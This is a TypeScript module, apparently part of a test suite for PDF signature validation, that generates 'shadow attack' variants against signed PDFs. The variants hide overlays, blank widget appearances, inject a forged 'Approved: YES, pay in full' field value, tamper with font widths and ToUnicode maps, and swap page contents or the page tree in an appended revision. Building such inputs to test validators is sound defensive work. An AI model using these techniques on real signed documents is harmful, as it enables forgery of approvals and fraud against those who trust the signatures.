import { PdfDict, PdfRef, PdfStream, textString, type PdfObject } from '../../../src/core/pdf/objects.js';
import type { AttackContext, Generator } from '../lib/context.js';
import { contentStream, layoutOf, withKeys, type SignedLayout } from '../lib/inspect.js';
import { appendRaw, type RawObject } from '../lib/raw.js';
import { findRole } from '../lib/shadow-input.js';
import { formField } from './form.js';

/**
 * Shadow attacks (NDSS 2021): the signed document already holds what the attacker will show; a tiny
 * later revision hides an overlay, replaces what a field or font displays, or points the page at
 * planted content. The input is built in lib/shadow-input.ts.
 */
async function revise(ctx: AttackContext, objects: (l: SignedLayout) => RawObject[]): Promise<Buffer> {
  const signed = await ctx.base('shadow');
  return appendRaw(signed, objects(layoutOf(signed))).bytes;
}

const page = (l: SignedLayout) => l.pages[0]!;

function resources(l: SignedLayout): { num: number; dict: PdfDict; direct: boolean } {
  const raw = page(l).dict.get('Resources');
  if (raw instanceof PdfRef) return { num: raw.num, dict: l.file.resolve(raw) as PdfDict, direct: false };
  return { num: page(l).ref.num, dict: raw as PdfDict, direct: true };
}

/** Rewrites the page's resources (the object holding them: a resources object or the page). */
function withResources(l: SignedLayout, dict: PdfDict): RawObject {
  const r = resources(l);
  return r.direct ? { num: r.num, body: withKeys(page(l).dict, { Resources: dict }) } : { num: r.num, body: dict };
}

function fontOf(l: SignedLayout): { num: number; dict: PdfDict } {
  const fonts = l.file.getDict(resources(l).dict, 'Font')!;
  const first = [...fonts.map.values()][0] as PdfRef;
  return { num: first.num, dict: l.file.resolve(first) as PdfDict };
}

/** The widget of the text field sitting over the page's "Approved: no" line, and its /AP /N stream. */
function noteWidget(l: SignedLayout): { field: { num: number; dict: PdfDict }; apNum: number; ap: PdfStream } {
  const field = formField(l, 'shadow.note');
  const kids = l.file.get(field.dict, 'Kids');
  const widget = Array.isArray(kids) ? (l.file.resolve(kids[0]) as PdfDict) : field.dict;
  const n = l.file.getDict(widget, 'AP')!.get('N') as PdfRef;
  return { field, apNum: n.num, ap: l.file.resolve(n) as PdfStream };
}

const stream = (s: PdfStream, text: string): PdfStream => new PdfStream(withKeys(s.dict, { Filter: undefined, DecodeParms: undefined }), Buffer.from(text, 'latin1'));

export const shadowGenerators: Record<string, Generator> = {
  'shadow-hide-overlay-emptied': (ctx) =>
    revise(ctx, (l) => {
      const o = findRole(l.file, 'Overlay');
      return [{ num: o.num, body: stream(o.value as PdfStream, '') }];
    }),
  'shadow-hide-resources-swapped': (ctx) =>
    revise(ctx, (l) => {
      const o = findRole(l.file, 'Overlay');
      const num = l.file.size;
      const xobjects = withKeys(l.file.getDict(resources(l).dict, 'XObject')!, { Overlay: new PdfRef(num, 0) });
      return [{ num, body: stream(o.value as PdfStream, '') }, withResources(l, withKeys(resources(l).dict, { XObject: xobjects }))];
    }),
  'shadow-hide-widget-appearance-emptied': (ctx) =>
    revise(ctx, (l) => {
      const w = noteWidget(l);
      return [{ num: w.apNum, body: stream(w.ap, '') }];
    }),
  'shadow-replace-field-value': (ctx) =>
    revise(ctx, (l) => {
      const w = noteWidget(l);
      return [
        { num: w.field.num, body: withKeys(w.field.dict, { V: textString('Approved: YES, pay in full') }) },
        { num: w.apNum, body: stream(w.ap, '1 1 1 rg 0 0 200 24 re f 0 0 0 rg BT /Helv 14 Tf 5 7 Td (Approved: YES, pay in full) Tj ET') },
      ];
    }),
  'shadow-replace-font-widths': (ctx) =>
    revise(ctx, (l) => {
      const f = fontOf(l);
      return [{ num: f.num, body: withKeys(f.dict, { FirstChar: 32, LastChar: 126, Widths: Array<PdfObject>(95).fill(0) }) }];
    }),
  'shadow-replace-font-tounicode': (ctx) =>
    revise(ctx, (l) => {
      const f = fontOf(l);
      const num = l.file.size;
      const cmap = '/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <30> <39> <0039> endbfrange endcmap end end';
      return [{ num, body: contentStream(cmap) }, { num: f.num, body: withKeys(f.dict, { ToUnicode: new PdfRef(num, 0) }) }];
    }),
  'shadow-hide-and-replace-page-contents': (ctx) =>
    revise(ctx, (l) => {
      const planted = findRole(l.file, 'PlantedContent');
      return [{ num: page(l).ref.num, body: withKeys(page(l).dict, { Contents: new PdfRef(planted.num, 0) }) }];
    }),
  'shadow-hide-and-replace-page-tree': (ctx) =>
    revise(ctx, (l) => {
      const planted = findRole(l.file, 'PlantedPage');
      const rootRef = l.catalog.get('Pages') as PdfRef;
      return [{ num: rootRef.num, body: withKeys(l.file.resolve(rootRef) as PdfDict, { Kids: [new PdfRef(planted.num, 0)] }) }];
    }),
};
